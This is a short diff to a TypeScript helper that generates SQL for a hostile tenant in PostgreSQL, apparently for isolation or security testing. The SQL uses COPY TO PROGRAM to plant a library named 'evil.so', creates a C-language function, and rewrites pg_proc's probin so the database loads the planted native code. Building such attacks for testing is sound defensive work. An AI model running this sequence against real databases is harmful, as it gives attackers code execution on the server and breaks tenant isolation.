@@ -112,7 +112,8 @@ export function tenantCodeSql(markers: string, library?: string): string[] {
     'create view public.orders_boot as select o.id, public.boot_rows() as extra from only public.orders o',
     ...(library
       ? [
-          `copy (select 1) to program 'mkdir -p tenant_lib && cp ${library} tenant_lib/evil.so'`,
+          // The program reads what COPY writes to it: one that exits first breaks the pipe, and the COPY fails.
+          `copy (select 1) to program 'cat > /dev/null; mkdir -p tenant_lib && cp ${library} tenant_lib/evil.so'`,
           // Created on a library of this machine's (creating it loads it), then pointed at the data folder's.
           "create function public.native() returns int language c as '$libdir/file_fdw', 'file_fdw_handler'",
           "update pg_catalog.pg_proc set probin = 'tenant_lib/evil' where proname = 'native'",
